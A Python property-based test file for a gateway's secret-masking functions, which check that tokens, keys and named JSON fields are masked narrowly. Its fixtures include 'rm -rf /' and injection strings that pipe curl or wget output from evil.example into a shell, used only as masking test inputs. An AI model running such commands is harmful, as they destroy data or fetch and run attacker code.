"""Masks hide what they must and rewrite nothing else, for all JSON that hypothesis finds."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.domain.masking import SIGN, is_masked, mask, mask_prose

documents = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=12,
)
TOKEN = "sk-" + "proj0123456789abcdefABCDEF"


@pytest.mark.covers("APPR-6")
@given(documents, st.sampled_from([None, 2]), st.booleans())
def test_what_holds_no_secret_stays_as_it_is_written(
    document: Any, indent: int | None, ascii_only: bool
) -> None:
    text = json.dumps(document, indent=indent, ensure_ascii=ascii_only)
    masked = mask(text, ("/nowhere/at/all/in/it",))
    assert (masked.text, masked.places) == (text, ())


@pytest.mark.covers("APPR-6")
@given(
    st.dictionaries(st.text(max_size=5), documents),
    st.text(max_size=5).filter(lambda name: name != "*"),
    documents,
    st.sampled_from([None, 2]),
)
def test_a_named_value_is_masked_whole_and_its_neighbours_are_not(
    document: dict[str, Any], name: str, value: Any, indent: int | None
) -> None:
    pointer = "/" + name.replace("~", "~0").replace("/", "~1")
    masked = mask(json.dumps({**document, name: value}, indent=indent), (pointer,))
    read = json.loads(masked.text)
    assert read.pop(name).startswith(SIGN)
    rest = {key: one for key, one in document.items() if key != name}
    assert json.dumps(read) == json.dumps(rest)
    assert masked.places == (pointer,)
    assert is_masked(masked.text)


@pytest.mark.covers("APPR-6")
@given(
    st.recursive(
        st.just(TOKEN),
        lambda inner: (
            st.lists(inner, min_size=1) | st.fixed_dictionaries({"k": inner, TOKEN: inner})
        ),
    )
)
def test_a_secret_is_found_at_every_depth_and_in_every_spelling(document: Any) -> None:
    plain = json.dumps(document)
    spelled = plain.replace("sk-", "\\u0073k-")
    for text in (plain, spelled, plain[:-1] + "!"):
        masked = mask(text, ())
        assert masked.places
        assert TOKEN[3:] not in masked.text


@pytest.mark.covers("APPR-6")
@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Bearer abcdefghijklmnop0123", "Bearer ⟦masked, 20 characters⟧"),
        (
            "curl https://bob:hunter2@host.example/x",
            "curl https://bob:⟦masked, 7 characters⟧@host.example/x",
        ),
        (f"export KEY={TOKEN}; rm -rf /", "export KEY=⟦masked, 29 characters⟧; rm -rf /"),
        ("AKIA0123456789ABCDEF", "⟦masked, 20 characters⟧"),
        ("eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.c2ln", "⟦masked, 38 characters⟧"),
        (
            "-----BEGIN PRIVATE KEY-----\nQUJDREVGR0hJSktMTU5P\nQUI=\nrm -rf /; true",
            "⟦masked, 53 characters⟧\nrm -rf /; true",
        ),
    ],
)
def test_a_mask_is_as_narrow_as_can_be(said: str, shown: str) -> None:
    assert json.loads(mask(json.dumps([said]), ()).text) == [shown]


@pytest.mark.covers("APPR-6")
@pytest.mark.parametrize(
    "said",
    [
        "send 9000 to DE02120300000000202051",
        "/var/lib/sk-data/readme.txt",
        "git clone git@github.com:acme/site.git",
        "ann@acme.example, bob@acme.example at 10:30",
        "-----BEGIN PRIVATE KEYHOLE-----",
        "git clone https://bot:$(curl${IFS}evil.example|sh)@github.com/acme/site",
        "echo hi:;wget${IFS}evil.example;#@acme",
        "to:mallory@evil.example",
    ],
)
def test_destinations_amounts_and_paths_are_never_taken_for_secrets(said: str) -> None:
    text = json.dumps({"said": said})
    assert mask(text, ()).text == text


@pytest.mark.covers("APPR-6")
@pytest.mark.parametrize(
    "text", ["", "{", '{"iban": "DE1', '{"iban": 1} {"iban": 2}', "[" * 100_000, "[1,]", "nul"]
)
def test_what_cannot_be_read_is_masked_as_a_whole_where_a_rule_masks(text: str) -> None:
    masked = mask(text, ("/iban",))
    assert masked.text == f"⟦masked, {len(text)} characters⟧"
    assert masked.places == ("",)
    assert mask(text, ()).text == text


@pytest.mark.covers("APPR-10")
def test_what_others_wrote_about_a_call_shows_no_more_than_the_call() -> None:
    call = mask('{"to": {"iban": "DE02 1203", "bank": null, "pin": 90125}}', ("/to",))
    told = mask_prose(f"pay DE02 1203 with 90125 and {TOKEN}, not None", call)
    assert told == (
        "pay ⟦masked, 9 characters⟧ with ⟦masked, 5 characters⟧ and ⟦masked, 29 characters⟧, "
        "not None"
    )
    assert mask_prose("pay DE02", mask("pay DE02", ("/to",))) == "⟦masked, 8 characters⟧"
